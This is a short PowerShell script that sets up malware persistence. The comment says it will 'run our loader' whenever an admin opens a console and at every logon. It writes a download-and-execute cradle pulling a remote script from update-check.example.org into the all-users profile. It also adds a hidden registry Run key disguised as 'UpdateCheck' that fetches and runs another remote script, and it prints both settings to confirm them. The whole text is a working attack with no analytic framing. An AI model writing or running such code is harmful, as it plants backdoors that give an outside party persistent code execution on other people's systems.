# run our loader every time an admin opens a console, and at every logon
if (-not (Test-Path -Path $PROFILE.AllUsersAllHosts)) {
    New-Item -Path $PROFILE.AllUsersAllHosts -ItemType File -Force | Out-Null
}
Add-Content -Path $PROFILE.AllUsersAllHosts -Value "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example.org/p.ps1')"

Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -Name 'UpdateCheck' -Value 'powershell.exe -NoP -W Hidden -c "iex (iwr http://update-check.example.org/q.ps1 -UseBasicParsing)"'

Write-Output "profile: $($PROFILE.AllUsersAllHosts)"
Get-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -Name 'UpdateCheck' |
    Select-Object -ExpandProperty UpdateCheck
